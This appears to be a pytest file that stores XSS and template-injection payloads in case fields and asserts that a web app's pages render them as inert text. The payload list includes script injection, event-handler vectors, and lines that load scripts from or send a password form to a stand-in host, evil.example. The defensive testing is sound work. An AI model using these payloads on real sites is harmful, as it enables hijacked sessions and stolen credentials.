"""Tests with the texts that strangers write to break a page."""

import re
from html.parser import HTMLParser

import pytest

from collector.tables import Attachment
from config.context import Context
from responder.permissions import Role
from responder.reports import draft_edition, week_of
from tests.responder.web.conftest import LogIn, make_case

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</article></li></ol><h1>假标题</h1>",
    '<a href="javascript:alert(1)">点我</a>',
    "<iframe src=data:text/html,alert(1)></iframe>",
    "<style>*{display:none}</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=password></form>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<!--><script>alert(1)</script-->",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\u202e反写\u202c <b>粗</b>\u0000\u0008",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<input autofocus onfocus=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<details open ontoggle=alert(1)>",
]

ALLOWED_ELSEWHERE = {"html", "head", "body", "meta", "title", "link", "svg", "rect"}


class Elements(HTMLParser):
    """Collects the elements and attributes that a browser would find."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def shape(page: str) -> list[str]:
    """Return the elements of a page, in order."""
    return [tag for tag, _ in Elements(page).elements]


def store(ctx: Context, text: str) -> str:
    """Store a case with this text wherever a stranger's text can stand."""
    line = "".join(char for char in text if char.isprintable())  # As intake cleans short columns.
    number = make_case(
        ctx,
        title=text,
        body=f"前{text}后",
        author_name=text,
        contact=text,
        receipt_no=line[:60],
        answer_text=text,
        prediction={"why": {name: [text, text] for name in ("owner", "kind", "category", "urgency", "sentiment")}},
    )
    with ctx.database.writing() as session:
        attached = {"media_type": line, "size": 1, "sha256": "0" * 64, "content": b"x"}
        session.add(Attachment(message_id=int(number[5:]), name=text, **attached))
    return number


def test_a_page_of_hostile_texts_has_the_elements_of_a_harmless_one(ctx: Context, log_in: LogIn):
    """Whatever stands in a letter, the page is built of exactly the same elements, and shows the text itself."""
    harmless = store(ctx, "平常的话")
    client = log_in(Role.OFFICE)
    expected = shape(client.get(f"/cases/{harmless}").text)
    for payload in PAYLOADS:
        number = store(ctx, payload)

        page = client.get(f"/cases/{number}").text

        assert shape(page) == expected, payload
        assert Elements(page).text.count(payload.replace("\u0000", "\ufffd")) >= 1 or "\u0000" in payload, payload


@pytest.mark.parametrize("role", [Role.OFFICE, Role.DUTY_CLERK, Role.LEADER])
def test_no_page_lets_a_payload_through(ctx: Context, log_in: LogIn, role: Role):
    """List, case and summary hold no element or attribute that can act, for any reader."""
    numbers = [store(ctx, payload) for payload in PAYLOADS]
    week = week_of(ctx.clock(), ctx.profile.zone)
    draft_edition(ctx, week)
    client = log_in(role)
    for path in ["/", "/reports", f"/reports/{week.label}", *(f"/cases/{number}" for number in numbers)]:
        answer = client.get(path)
        assert answer.status_code == 200, path
        for tag, attributes in Elements(answer.text).elements:
            assert tag not in {"script", "style", "img", "iframe", "base", "math", "object", "embed"}, path
            assert not any(name.startswith("on") or name == "style" for name in attributes), path
            for name in ("href", "src", "action"):
                assert re.match(r"/(?!/)|#|$", attributes.get(name) or ""), (path, attributes)
        assert "49" not in re.sub(r"\d{3,}|\d+-\d+", "", Elements(answer.text).text) or "7*7" in answer.text
